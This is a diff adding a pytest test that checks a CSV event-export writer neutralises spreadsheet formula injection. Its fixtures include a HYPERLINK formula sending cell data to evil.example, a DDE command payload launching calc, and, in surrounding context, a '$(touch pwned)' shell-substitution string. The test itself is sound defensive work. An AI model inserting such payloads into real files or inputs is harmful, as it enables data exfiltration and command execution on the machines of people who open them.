@@ -82,3 +82,15 @@ def test_events_csv_does_not_follow_a_planted_temporary_symlink(tmp_path) -> Non
     assert not (out / "events.csv").is_symlink()
     assert "$(touch pwned)" in (out / "events.csv").read_text(encoding="utf-8")
     assert sorted(p.name for p in out.iterdir()) == [".events.csv.tmp", "events.csv", "events.csv.tmp"]
+
+
+def test_events_csv_cells_are_formula_safe(tmp_path) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    rels = [Relation(hostile, "country/BLR", "consult", "org/NATO", "@SUM(1+1) said Belarus.", 0, 30,
+                     speaker="-2+3 cmd|' /C calc'!A0", date="2020-01-01", method="+method", trigger="met")]
+    write_events_csv(rels, ENTITIES, tmp_path / "events.csv", igo_table={})
+    rows = list(csv.reader((tmp_path / "events.csv").open(encoding="utf-8")))
+    assert len(rows) == 3
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'" + hostile in cells and "'@SUM(1+1) said Belarus." in cells and "'+method" in cells
